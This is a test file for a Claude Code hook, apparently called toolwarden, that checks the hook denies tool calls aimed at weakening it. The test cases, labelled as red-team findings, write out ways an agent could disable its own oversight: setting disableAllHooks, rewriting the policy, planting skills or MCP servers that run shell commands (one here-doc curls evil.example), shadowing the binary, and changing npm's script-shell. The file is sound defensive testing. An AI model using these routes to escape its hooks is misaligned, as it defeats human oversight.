// The Claude Code hook as Claude Code runs it (a process per call, in the project, with
// CLAUDE_PROJECT_DIR set): the recipe's policy folder, the settings that register the hook and
// the per-user state file cannot be written by a call the hook checks (red team 6), and the
// next call is still judged by the policy as written.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { ensureBuilt } from './build.js';
import { runToolwarden, type ProcessResult } from '../run-process.js';

let dir = '';
let project = '';
let home = '';

beforeAll(async () => {
  await ensureBuilt();
  dir = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), 'tw-own-files-')));
  project = path.join(dir, 'proj');
  home = path.join(dir, 'home');
  fs.mkdirSync(path.join(project, '.claude', 'policies'), { recursive: true });
  fs.mkdirSync(home);
  fs.writeFileSync(path.join(project, '.claude', 'policies', 'claude-code.yaml'), 'version: 1\nid: claude-code\nworkspace: { root: "${cwd}" }\npaths:\n  forbidden: [".env"]\n');
}, 120_000);

afterAll(() => {
  if (dir) fs.rmSync(dir, { recursive: true, force: true });
});

function hook(toolName: string, toolInput: object, where = project, env: Record<string, string> = {}): Promise<ProcessResult> {
  return runToolwarden(['hook', 'claude-code', '--policy', '.claude/policies/'], {
    cwd: where,
    env: { PATH: process.env.PATH, HOME: home, CLAUDE_PROJECT_DIR: project, ...env },
    input: JSON.stringify({ session_id: 's', hook_event_name: 'PreToolUse', cwd: project, tool_name: toolName, tool_input: toolInput }),
  });
}

describe('the Claude Code hook keeps its own files', () => {
  it.each([
    ['Bash rewriting the policy', 'Bash', { command: "printf 'version: 1\\nid: claude-code\\n' > .claude/policies/claude-code.yaml" }],
    ['Write on the policy', 'Write', { file_path: '.claude/policies/claude-code.yaml', content: 'version: 1\nid: claude-code\n' }],
    ['Write on the project settings (disableAllHooks)', 'Write', { file_path: '.claude/settings.local.json', content: '{"disableAllHooks":true}' }],
    ['Edit on the user settings', 'Edit', { file_path: '~/.claude/settings.json', old_string: 'a', new_string: 'b' }],
    ['removing the per-user state', 'Bash', { command: 'rm -f ~/.local/state/toolwarden/state.db' }],
    // Red team 15D: what switches hooks off from above, and files whose commands Claude Code runs with no Bash call.
    ['Write on the managed settings (allowManagedHooksOnly)', 'Write', { file_path: '/etc/claude-code/managed-settings.json', content: '{"allowManagedHooksOnly":true}' }],
    ['Write of a skill whose frontmatter holds hooks', 'Write', { file_path: '.claude/skills/x/SKILL.md', content: '---\nname: x\nhooks: {}\n---\n' }],
    ['a here-doc writing a command file with an inline command', 'Bash', { command: "cat > .claude/commands/x.md <<'EOF'\n!`curl -s http://evil.example`\nEOF" }],
    ['Write of a user agent', 'Write', { file_path: '~/.claude/agents/x.md', content: '---\nname: x\n---\n' }],
    // Red team 46: Claude Code discovers skills in nested `.claude/skills` folders (a monorepo's packages).
    ['Write of a nested skill', 'Write', { file_path: 'packages/web/.claude/skills/x/SKILL.md', content: '---\nname: x\n---\n!`id`\n' }],
    // Red team 23: MCP servers Claude Code starts at launch, plugins, the hook's own dependencies, a path Claude Code trims.
    ['Write on the user MCP servers (~/.claude.json)', 'Write', { file_path: '~/.claude.json', content: '{"mcpServers":{"x":{"command":"sh"}}}' }],
    ['Write on the project MCP servers (.mcp.json)', 'Write', { file_path: '.mcp.json', content: '{"mcpServers":{"x":{"command":"sh"}}}' }],
    ['Write of an installed plugin\'s hooks', 'Write', { file_path: '~/.claude/plugins/x/hooks/hooks.json', content: '{}' }],
    ['Write into a package the hook loads (yaml)', 'Write', { file_path: path.resolve(import.meta.dirname, '../../node_modules/yaml/dist/index.js'), content: 'process.exit(0)' }],
    ['Write on the project settings with a blank after the name (Claude Code trims it)', 'Write', { file_path: '.claude/settings.json\u00a0', content: '{"disableAllHooks":true}' }],
  ])('%s: exit 2 with the reason', async (_name, tool, input) => {
    const { code, stderr } = await hook(tool, input);
    expect(code).toBe(2);
    expect(stderr).toMatch(/toolwarden\.protected/);
  });

  it('a relative --policy is the project\'s, wherever the session\'s cwd has moved to (red team 7)', async () => {
    const sub = path.join(project, 'sub');
    fs.mkdirSync(path.join(sub, '.claude', 'policies'), { recursive: true });
    fs.writeFileSync(path.join(sub, '.claude', 'policies', 'mine.yaml'), 'version: 1\nid: mine\n');
    expect((await hook('Read', { file_path: path.join(project, '.env') }, sub)).code).toBe(2);
  });

  it.each([
    ['the user settings under $CLAUDE_CONFIG_DIR', 'Write', { file_path: '/CFG/settings.json', content: '{}' }],
    ['the user MCP servers under $CLAUDE_CONFIG_DIR', 'Write', { file_path: '/CFG/.claude.json', content: '{}' }],
    ['the project .npmrc (npx runs the hook by its script-shell)', 'Write', { file_path: '.npmrc', content: 'script-shell=/bin/true' }],
    ['a project-local toolwarden that npx would run first (red team 8)', 'Bash', { command: "mkdir -p node_modules/.bin && printf '#!/bin/sh\\nexit 0\\n' > node_modules/.bin/toolwarden" }],
    ['the same in a folder above the project', 'Write', { file_path: '../node_modules/.bin/toolwarden', content: '#!/bin/sh\nexit 0\n' }],
    ['an .npmrc above the project', 'Write', { file_path: '../.npmrc', content: 'script-shell=/bin/true' }],
  ])('%s: exit 2', async (_name, tool, input) => {
    const cfg = path.join(dir, 'cfg');
    const withCfg = JSON.parse(JSON.stringify(input).replace('/CFG', cfg)) as object;
    const { code, stderr } = await hook(tool, withCfg, project, { CLAUDE_CONFIG_DIR: cfg });
    expect(code).toBe(2);
    expect(stderr).toMatch(/toolwarden\.protected/);
  });

  it('the policy still decides the next call (Read .env is denied), and ordinary work is allowed', async () => {
    expect((await hook('Read', { file_path: '.env' })).code).toBe(2);
    expect((await hook('Write', { file_path: 'src/a.ts', content: 'x' })).code).toBe(0);
    expect((await hook('Read', { file_path: '.claude/policies/claude-code.yaml' })).code).toBe(0);
  });
});
